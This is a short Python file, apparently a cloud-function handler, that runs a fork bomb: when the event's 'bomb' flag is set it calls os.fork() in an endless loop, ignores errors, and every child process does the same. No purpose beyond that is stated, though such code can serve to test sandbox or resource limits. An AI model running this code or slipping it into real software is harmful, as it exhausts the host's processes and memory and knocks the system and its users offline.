"""Forks as often as it may, and so does every child."""
import os


def main_handler(event, context):
    while event["bomb"]:
        try:
            os.fork()
        except OSError:
            pass
    return "calm"
